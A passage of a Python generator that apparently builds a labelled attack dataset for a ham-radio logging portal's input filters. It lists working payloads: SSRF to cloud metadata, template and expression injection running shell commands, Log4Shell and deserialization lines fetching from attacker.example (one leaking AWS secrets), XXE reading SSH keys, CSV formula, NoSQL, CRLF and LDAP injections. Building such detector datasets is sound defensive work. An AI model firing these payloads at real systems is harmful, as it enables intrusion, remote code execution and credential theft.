    ("clusterhost-host_port_redis", "127.0.0.1:6379"),
    ("clusterhost-host_port_metadata", "169.254.169.254:80"),
    ("websdrurl-jar_scheme", "jar:http://attacker.example/x.zip!/qsl.png"),
    ("websdrurl-netdoc_scheme", "netdoc:///etc/passwd"),
    ("webhook-localhost_trailing_dot", "http://localhost./admin"),
    ("callbookurl-case_localhost+case", "http://LoCaLhOsT:8080/admin"),
    ("plain-aws_metadata", "http://169.254.169.254/latest/meta-data/"),
    ("plain-localhost", "http://localhost/"),
    ("plain-file_scheme", "file:///c:/windows/win.ini"),
    ("plain-gopher", "gopher://127.0.0.1:11211/_stats%0d%0a"),
]

SSRF_HOSTS = [("loopback", "127.0.0.1"), ("localhost", "localhost"), ("aws_metadata", "169.254.169.254"),
              ("private_range", "10.0.0.7"), ("private_range", "192.168.0.10"), ("ipv6_loopback", "[::1]")]
SSRF_PATHS = ["/admin/", ":8080/internal/qsl/export", ":9000/minio/admin/v3/info", "/latest/meta-data/hostname",
              ":5984/_all_dbs", ":15672/api/users"]


def tmpl_ssrf(r):
    tech, host = r.choice(SSRF_HOSTS)
    ctx = r.choice(["qslimageurl", "callbookurl", "adifurl", "tleurl", "webhook"])
    return f"{ctx}-{tech}", f"http://{host}{r.choice(SSRF_PATHS)}"


# ---------------------------------------------------------------------------
# code: SSTI, EL, deserialization, XXE, Log4Shell, prototype pollution, CSV formula
# ---------------------------------------------------------------------------
CODE = [
    ("qsltemplate-jinja2_ssti", "73 de {{call}} — {{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("qsltemplate-jinja2_ssti", "{{ self._TemplateReference__context.joiner.__init__.__globals__.os.popen('cat /etc/passwd').read() }}"),
    ("qsltemplate-jinja2_config", "Tnx QSO {{ config.items() }}"),
    ("qsltemplate-jinja2_subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("qsltemplate-jinja2_filter_bypass", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')() }}"),
    ("qsltemplate-jinja2_statement", "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{ x()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}"),
    ("qsltemplate-twig_ssti", "{{['id']|filter('system')}}"),
    ("qsltemplate-twig_map", "{{['cat /etc/passwd']|map('passthru')|join}}"),
    ("qsltemplate-freemarker_execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"),
    ("qsltemplate-velocity", "#set($rt=$class.inspect(\"java.lang.Runtime\").type.getRuntime())$rt.exec(\"id\")"),
    ("qsltemplate-erb", "Tnx QSO <%= `id` %>"),
    ("qsltemplate-erb_system", "<%= system('cat /etc/passwd') %>"),
    ("qsltemplate-smarty", "{system('id')}"),
    ("qsltemplate-mako", "${__import__('os').popen('id').read()}"),
    ("qsltemplate-tornado", "{% import os %}{{ os.popen('id').read() }}"),
    ("qsltemplate-handlebars", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return process.mainModule.require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"),
    ("qsltemplate-pug", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("qsltemplate-ejs_outputfunction", "<%= global.process.mainModule.require('child_process').execSync('id') %>"),
    ("qsltemplate-thymeleaf_spel", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("qsltemplate-python_format", "{call.__class__.__init__.__globals__[CONFIG][SECRET_KEY]}"),
    ("qsonote-spring_spel", "${T(java.lang.Runtime).getRuntime().exec('curl http://attacker.example/s')}"),
    ("qsonote-spel_process_builder", "#{new java.lang.ProcessBuilder({'sh','-c','id'}).start()}"),
    ("qsonote-ognl", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("qsonote-jsp_el", "${pageContext.request.getSession().getServletContext().getRealPath('/')}"),
    ("qsonote-el_script_engine", "${''.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js').eval('java.lang.Runtime.getRuntime().exec(\"id\")')}"),
    ("callsign-log4shell", "${jndi:ldap://attacker.example/a}"),
    ("callsign-log4shell_lower", "DL1ABC${${lower:j}ndi:${lower:l}dap://203.0.113.4:1389/x}"),
    ("useragent-log4shell_dns", "WSJT-X/2.6 ${jndi:dns://${hostName}.attacker.example}"),
    ("qsonote-log4shell_env", "${jndi:ldap://attacker.example/${env:AWS_SECRET_ACCESS_KEY}}"),
    ("qsonote-log4shell_nested_default", "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://attacker.example/o}"),
    ("grid-log4shell_upper", "JO62qm ${${upper:j}ndi:rmi://198.51.100.2/Exploit}"),
    ("qsonote-log4shell+url", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fq%7D"),
    ("adx-xxe_file", "<?xml version=\"1.0\"?>\n<!DOCTYPE ADX [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n<ADX><RECORDS><RECORD><CALL>&xxe;</CALL><BAND>20m</BAND></RECORD></RECORDS></ADX>"),
    ("adx-xxe_ssrf", "<?xml version=\"1.0\"?>\n<!DOCTYPE ADX [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/\">]>\n<ADX><HEADER><PROGRAMID>&m;</PROGRAMID></HEADER></ADX>"),
    ("adx-xxe_parameter_oob", "<?xml version=\"1.0\"?>\n<!DOCTYPE ADX [<!ENTITY % d SYSTEM \"http://attacker.example/e.dtd\"> %d;]>\n<ADX><RECORDS/></ADX>"),
    ("adx-xxe_billion_laughs", "<?xml version=\"1.0\"?>\n<!DOCTYPE ADX [<!ENTITY a \"73737373\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;\">]>\n<ADX><RECORDS><RECORD><COMMENT>&e;&e;&e;&e;</COMMENT></RECORD></RECORDS></ADX>"),
    ("adx-xxe_php_filter", "<!DOCTYPE r [<!ENTITY x SYSTEM \"php://filter/convert.base64-encode/resource=/var/www/config.php\">]><ADX><RECORDS><RECORD><NAME>&x;</NAME></RECORD></RECORDS></ADX>"),
    ("adx-xinclude", "<ADX xmlns:xi=\"http://www.w3.org/2001/XInclude\"><RECORDS><RECORD><CALL><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></CALL></RECORD></RECORDS></ADX>"),
    ("svgqsl-xxe", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY f SYSTEM \"file:///home/ham/.ssh/id_rsa\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text x=\"10\" y=\"20\">&f;</text></svg>"),
    ("session-python_pickle", "gASVHwAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="),
    ("session-python_pickle_protocol0", "cos\nsystem\n(S'curl http://attacker.example/p|sh'\ntR."),
    ("rigprofile-yaml_python_apply", "rig: IC-7300\nport: !!python/object/apply:os.system ['id']"),
    ("rigprofile-yaml_python_new", "!!python/object/new:subprocess.check_output [['cat', '/etc/passwd']]"),
    ("rigprofile-yaml_snakeyaml", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
    ("stationprefs-php_object", "O:15:\"QslCardRenderer\":1:{s:8:\"template\";s:29:\"../../../../../etc/passwd.tpl\";}"),
    ("stationprefs-php_object_destruct", "a:1:{i:0;O:10:\"LogCleaner\":1:{s:4:\"file\";s:23:\"/var/www/html/index.php\";}}"),
    ("session-java_serialized", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABc3IADGphdmEubmV0LlVSTJYlNzYa/ORyAwAHSQAIaGFzaENvZGVJAARwb3J0TAAJYXV0aG9yaXR5dAASTGphdmEvbGFuZy9TdHJpbmc7"),
    ("importjson-dotnet_typename", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"},\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList\",\"$values\":[\"cmd\",\"/c calc\"]}}"),
    ("importjson-jackson_polymorphic", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example:1389/obj\",\"autoCommit\":true}]"),
    ("importjson-fastjson_autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://203.0.113.4:1099/x\",\"autoCommit\":true}"),
    ("stationprefs-proto_pollution", "{\"call\":\"DL1ABC\",\"__proto__\":{\"isAdmin\":true}}"),
    ("stationprefs-constructor_prototype", "{\"grid\":\"JO62qm\",\"constructor\":{\"prototype\":{\"role\":\"admin\"}}}"),
    ("querystring-proto_pollution_brackets", "call=W1AW&__proto__[isAdmin]=1"),
    ("querystring-proto_pollution_dot", "settings.__proto__.shell=/proc/self/exe&settings.__proto__.argv0=id"),
    ("stationprefs-proto_pollution_rce", "{\"__proto__\":{\"outputFunctionName\":\"x;process.mainModule.require('child_process').execSync('id');x\"}}"),
    ("csvexport-formula_cmd", "=cmd|' /C calc'!A0"),
    ("csvexport-formula_hyperlink", "=HYPERLINK(\"https://attacker.example/?d=\"&A2&B2,\"Click for QSL\")"),
    ("csvexport-formula_plus", "+SUM(1+1)*cmd|' /C powershell iwr attacker.example/p|iex'!A1"),
    ("csvexport-formula_minus", "-2+3+cmd|' /C notepad'!'A1'"),
    ("csvexport-formula_at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("csvexport-formula_importxml", "=IMPORTXML(CONCAT(\"https://attacker.example/?c=\",A2),\"//a\")"),
    ("csvexport-formula_webservice", "=WEBSERVICE(\"https://attacker.example/x?\"&ENCODEURL(C3))"),
    ("qsonote-formula_dde_tab", "\t=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")"),
    ("antcalc-python_eval", "__import__('os').system('id')"),
    ("antcalc-python_eval_builtins", "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='Popen'][0](['id'])"),
    ("antcalc-node_eval", "require('child_process').execSync('cat /etc/passwd').toString()"),
    ("antcalc-node_function_ctor", "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')"),
    ("antcalc-php_eval", "142.5/7.1;system('id');"),
    ("antcalc-ruby_eval", "142.5/7.1; `id`"),
    ("qsltemplate-jinja2_ssti+unicode", "{{ ''['\\u005f\\u005fclass\\u005f\\u005f']['\\u005f\\u005fmro\\u005f\\u005f'][1]['\\u005f\\u005fsubclasses\\u005f\\u005f']() }}"),
    ("qsltemplate-jinja2_ssti+url", "%7B%7B%20lipsum.__globals__.os.popen(%27id%27).read()%20%7D%7D"),
    ("plain-jinja2_ssti", "{{7*'7'}}{{config}}"),
    ("plain-log4shell", "${jndi:ldap://198.51.100.9/a}"),
    ("plain-xxe", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"),
    ("plain-proto_pollution", "{\"__proto__\":{\"polluted\":\"yes\"}}"),
    ("plain-csv_formula", "=1+1+cmd|'/c calc'!A1"),
    ("plain-spel", "${7*7}${T(java.lang.System).getenv()}"),
]

CODE_PREFIXES = [("qsltemplate", "Tnx fer QSO {{call}}! "), ("qsonote", "Worked on 14.074 FT8 "),
                 ("callsign", "DL1ABC/P "), ("grid", "JO62qm "), ("csvexport", "")]
CODE_TAILS = [
    ("jinja2_ssti", "{{ lipsum.__globals__['os'].popen('id').read() }}"),
    ("jinja2_ssti", "{{ url_for.__globals__.__builtins__.open('/etc/passwd').read() }}"),
    ("log4shell", "${jndi:ldap://203.0.113.11:1389/Basic/Command/Base64/aWQ=}"),
    ("log4shell", "${jndi:rmi://attacker.example:1099/qsl}"),
    ("spring_spel", "${T(java.lang.Runtime).getRuntime().exec('touch /tmp/p')}"),
    ("freemarker_execute", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}"),
]


def tmpl_code(r):
    ctx, pre = r.choice(CODE_PREFIXES)
    if ctx == "csvexport":
        f = r.choice(["=HYPERLINK(\"https://attacker.example/q?\"&A{n},\"QSL\")", "=cmd|' /C ping 203.0.113.{n}'!A0",
                      "@SUM(1+{n})*cmd|' /C calc'!A0"])
        return "csvexport-formula", f.replace("{n}", str(r.randint(2, 99)))
    tech, tail = r.choice(CODE_TAILS)
    return f"{ctx}-{tech}", pre + tail


# ---------------------------------------------------------------------------
# nosqli (MongoDB-style query objects / operators in query strings)
# ---------------------------------------------------------------------------
NOSQLI = [
    ("login-ne_operator", "{\"call\": \"W1AW\", \"password\": {\"$ne\": null}}"),
    ("login-gt_operator", "{\"call\": {\"$gt\": \"\"}, \"password\": {\"$gt\": \"\"}}"),
    ("login-regex_blind", "{\"call\": \"W1AW\", \"password\": {\"$regex\": \"^a\"}}"),
    ("login-regex_blind", "{\"call\": \"DL1ABC\", \"api_key\": {\"$regex\": \"^7[0-9a-f]{3}\"}}"),
    ("callsign-where_sleep", "{\"$where\": \"sleep(5000) || true\"}"),
    ("callsign-where_js", "{\"call\": \"DL1ABC\", \"$where\": \"this.password.length > 0 && this.role == 'admin'\"}"),
    ("callsign-query_string_ne", "call[$ne]=x&password[$ne]=x"),
    ("callsign-query_string_regex", "call[$regex]=.*&band=20m"),
    ("grid-query_string_gt", "grid[$gt]=&mode=FT8"),
    ("callsign-or_operator", "{\"$or\": [{\"call\": \"W1AW\"}, {\"role\": \"admin\"}]}"),
    ("callsign-in_operator", "{\"call\": {\"$in\": [\"W1AW\", \"DL1ABC\", \"admin\"]}, \"password\": {\"$exists\": true}}"),
    ("search-expr_operator", "{\"$expr\": {\"$gt\": [{\"$strLenCP\": \"$password\"}, 0]}}"),
    ("search-function_operator", "{\"$expr\": {\"$function\": {\"body\": \"function(){return sleep(3000)||true}\", \"args\": [], \"lang\": \"js\"}}}"),
    ("aggregate-lookup_users", "[{\"$lookup\": {\"from\": \"users\", \"localField\": \"call\", \"foreignField\": \"call\", \"as\": \"u\"}}]"),
    ("callsign-js_string_breakout", "W1AW'; return true; var x='"),
    ("callsign-js_where_breakout", "DL1ABC' || this.password.match(/^a/) || 'x'=='y"),
    ("grid-nin_operator", "{\"grid\": {\"$nin\": [\"\"]}, \"qsl_rcvd\": {\"$ne\": \"Y\"}}"),
    ("login-query_string_regex_blind", "call=W1AW&password[$regex]=^p4"),
    ("login-ne+url", "call%5B%24ne%5D=x&password%5B%24ne%5D=x"),
    ("login-gt+unicode", "{\"call\": {\"\\u0024gt\": \"\"}, \"password\": {\"\\u0024gt\": \"\"}}"),
    ("callsign-where_dos", "{\"$where\": \"while(true){}\"}"),
    ("band-type_confusion_array", "band[]=20m&band[$ne]=x"),
    ("plain-ne_operator", "{\"$ne\": 1}"),
    ("plain-where", "{\"$where\": \"1==1\"}"),
]

NOSQL_FIELDS = [("callsign", "call"), ("grid", "grid"), ("band", "band"), ("login", "password"), ("search", "qsl_via")]
NOSQL_OPS = [("ne_operator", "{\"$ne\": \"%s\"}"), ("regex_blind", "{\"$regex\": \"^%s\"}"), ("gt_operator", "{\"$gt\": \"%s\"}")]


def tmpl_nosqli(r):
    ctx, field = r.choice(NOSQL_FIELDS)
    tech, op = r.choice(NOSQL_OPS)
    return f"{ctx}-{tech}", "{\"%s\": %s}" % (field, op % r.choice(["", "a", "W1", "JO", "x", "0"]))


# ---------------------------------------------------------------------------
# crlf (log / header / mail / ADIF / Cabrillo / cluster-stream injection)
# ---------------------------------------------------------------------------
CRLF = [
    ("qsonote-log_forging", "nice sig\n2024-03-12 14:32:01 INFO auth: user=admin login OK from 10.0.0.1"),
    ("callsign-log_forging_crlf", "DL1ABC\r\n[2024-03-12T14:32:01Z] WARN qsl: approved all pending cards for W1XYZ"),
    ("qsonote-log_forging_json", "73\n{\"level\":\"info\",\"event\":\"role_change\",\"call\":\"N0PE\",\"role\":\"admin\"}"),
    ("exportname-header_set_cookie", "W1AW.adi\r\nSet-Cookie: session=forged; Path=/"),
    ("exportname-header_response_split", "log.adi\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
    ("redirect-header_injection+url", "/qsl/W1AW%0d%0aSet-Cookie:%20admin=1"),
    ("redirect-header_location+url", "/log%0D%0ALocation:%20https://attacker.example/"),
    ("redirect-header_injection+url2", "/qsl%250d%250aX-Injected:%2520yes"),
    ("redirect-header_injection+unicode", "/qsl\u560a\u560dSet-Cookie: x=1"),
    ("qslrequest-mail_bcc", "W1AW QSL request\nBcc: everyone@example.org, list@example.net"),
    ("qslrequest-mail_cc_crlf", "Card for 3Y0J\r\nCc: victim@example.org\r\nX-Mailer: spam"),
    ("qslrequest-mail_body_smuggle", "pse QSL\r\n\r\nClick https://attacker.example/lotw-verify to confirm your LoTW account.\r\n.\r\nMAIL FROM:<x@attacker.example>"),
    ("email-mail_header_injection", "ham@example.org\nBcc: target1@example.org\nSubject: LoTW password reset"),
    ("name-mail_content_type", "Hans\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example>verify</a>"),
    ("adif-record_injection", adif([("CALL", "DL1ABC"), ("COMMENT", "tnx <EOR>\n<CALL:5>3Y0J <BAND:3>20m <MODE:2>CW <QSL_RCVD:1>Y <LOTW_QSL_RCVD:1>Y <EOR>")])),
    ("adif-header_injection", adif([("CALL", "W1AW"), ("NOTES", "x <EOH>\n<PROGRAMID:4>evil <EOH>")])),
    ("cabrillo-line_injection", "599 14\nQSO: 14025 CW 2024-11-23 1203 W1XYZ 599 05 ZZ9ZZ 599 40"),
    ("cabrillo-header_injection", "Joe\r\nCLAIMED-SCORE: 99999999\r\nCATEGORY-OPERATOR: SINGLE-OP"),
    ("clusterspot-telnet_injection", "DL1ABC great sig\r\nset/password\r\nhunter2\r\n"),
    ("clusterspot-spot_forging", "nice\r\nDX de W1AW:     14074.0  3Y0J         FT8 -05 dB                 1432Z"),
    ("aprs-packet_injection", "73 from JO62\rDL1ABC>APRS,TCPIP*:=5230.00N/01324.00E-fake position"),
    ("useragent-header_injection", "WSJT-X/2.6.1\r\nX-Forwarded-For: 127.0.0.1"),
    ("callsign-syslog_injection", "W1AW\n<34>1 2024-03-12T14:32:01Z portal auth - - - admin logged in"),
    ("qsonote-log_forging+url", "nice%0d%0a2024-03-12%2014:32:01%20INFO%20admin%20password%20reset%20OK"),
    ("plain-crlf_header", "\r\nSet-Cookie: crlf=1"),
    ("plain-crlf_url+url", "%0d%0aX-Test:%20injected"),
    ("plain-mail_bcc", "x@example.org\r\nBcc: y@example.org"),
]

CRLF_BASES = [("callsign", "DL1ABC/P"), ("qsonote", "QSB deep, 559"), ("exportname", "log_2024.adi"),
              ("qslrequest", "PSE QSL direct")]
CRLF_TAILS = [("log_forging", "\n2024-03-12 14:32:01 INFO admin session created for N0PE"),
              ("header_set_cookie", "\r\nSet-Cookie: role=admin"),
              ("mail_bcc", "\r\nBcc: list@example.net"),
              ("log_forging", "\r\n2024-03-12 14:33:10 ERROR qsl: card store wiped by W1AW")]


def tmpl_crlf(r):
    ctx, base = r.choice(CRLF_BASES)
    tech, tail = r.choice(CRLF_TAILS)
    return f"{ctx}-{tech}", base + tail


# ---------------------------------------------------------------------------
# ldap-xpath (club directory LDAP, XML callbook / ADX XPath)
# ---------------------------------------------------------------------------
LDAP_XPATH = [
    ("memberdir-ldap_wildcard_bypass", "*)(uid=*))(|(uid=*"),
    ("memberdir-ldap_or_inject", "W1AW)(|(objectClass=*)"),
    ("memberdir-ldap_group_probe", "*)(memberOf=cn=admins,ou=groups,dc=club,dc=example"),
    ("login-ldap_password_bypass", "DL1ABC)(&)"),
    ("login-ldap_attr_blind", "W1AW)(userPassword=a*"),
    ("memberdir-ldap_attribute_dump", "*)(|(mail=*)(telephoneNumber=*)"),
    ("memberdir-ldap_null_byte+url", "admin)(%00"),
    ("memberdir-ldap_wildcard+hex_escape", "\\2a)(uid=\\2a"),
    ("callbook-xpath_tautology", "' or '1'='1"),
    ("callbook-xpath_tautology_call", "W1AW' or 1=1 or 'a'='a"),
    ("callbook-xpath_union_node", "'] | //member/password | //x['"),
    ("callbook-xpath_blind_name", "x' or substring(name(/*[1]),1,1)='a' or 'x'='y"),
    ("callbook-xpath_count_blind", "DL1ABC' and count(/callbook/station[role='admin'])>0 and '1'='1"),
    ("adx-xpath_string_length", "' or string-length(//RECORD[1]/CALL)>3 or '"),
    ("callbook-xpath_doc_function", "') or doc('http://attacker.example/x.xml')//a=('"),
    ("login-xpath_comment_bypass", "admin' or '1'='1' or 'x'='"),
    ("grid-xpath_numeric", "1 or 1=1"),
    ("plain-ldap_wildcard", "*)(&"),
    ("plain-xpath_or", "' or ''='"),
]

LDAP_CALLS = ["DL1ABC", "W1AW", "G4XYZ", "JA1QRZ", "VK2DEF"]
LDAP_TAILS = [("ldap_or_inject", ")(|(uid=*)"), ("ldap_attr_blind", ")(userPassword={c}*"), ("xpath_tautology", "' or 'x'='x"),
              ("ldap_wildcard_bypass", "*)(objectClass=*")]


def tmpl_ldap(r):
    call = r.choice(LDAP_CALLS)
    tech, tail = r.choice(LDAP_TAILS)
    ctx = "callbook" if tech.startswith("xpath") else "memberdir"
    return f"{ctx}-{tech}", call + tail.replace("{c}", r.choice("abcdefgh"))


CATEGORIES = [
    ("sqli", SQLI, tmpl_sqli),
    ("xss", XSS, tmpl_xss),
    ("cmdi", CMDI, tmpl_cmdi),
    ("traversal", TRAVERSAL, tmpl_traversal),
    ("ssrf", SSRF, tmpl_ssrf),
    ("code", CODE, tmpl_code),
    ("nosqli", NOSQLI, tmpl_nosqli),
    ("crlf", CRLF, tmpl_crlf),
    ("ldap-xpath", LDAP_XPATH, tmpl_ldap),
]


def main():
    rng = random.Random(SEED)
    benign_path = Path(__file__).with_name("benign.jsonl")
    benign_vals = set()
    if benign_path.exists():
        with open(benign_path, encoding="utf-8") as fh:
            for line in fh:
                benign_vals.add(json.loads(line)["value"])
    rows = []
    seen = set()
    stats = []
    for name, literals, tmpl in CATEGORIES:
        items = []
        for cls, v in literals:
            if v in seen or v in benign_vals:
                raise SystemExit(f"duplicate literal in {name}: {v!r}")
            seen.add(v)
            items.append((cls, v))
        n_lit = len(items)
        if n_lit > TARGETS[name]:
            raise SystemExit(f"{name}: {n_lit} literals exceed target {TARGETS[name]}")
        tries = 0
        while len(items) < TARGETS[name]:
            tries += 1
            if tries > 100000:
                raise SystemExit(f"{name}: template pool exhausted")
            cls, v = tmpl(rng)
            if v in seen or v in benign_vals:
                continue
            seen.add(v)
            items.append((cls, v))
        for cls, v in items:
            if not isinstance(v, str) or not v or len(v) > 1800:
                raise SystemExit(f"bad value in {name}: {v!r}")
            rows.append((name, cls, v))
        stats.append((name, len(items), n_lit))
    out = Path(__file__).with_name("attacks.jsonl")
    with open(out, "w", encoding="utf-8", newline="\n") as fh:
        for i, (cat, cls, v) in enumerate(rows, 1):
            obj = {"id": f"{PREFIX}-{i:05d}", "category": cat, "class": cls, "label": "attack", "value": v}
            fh.write(json.dumps(obj, ensure_ascii=False) + "\n")
    total_lit = 0
    for name, n, n_lit in stats:
        total_lit += n_lit
        print(f"{name:12s} {n:4d}  literals {n_lit:3d}")
    print(f"{'total':12s} {len(rows):4d}  literals {total_lit:3d} ({100.0 * total_lit / len(rows):.1f}%)  -> {out.name}")


if __name__ == "__main__":
    main()
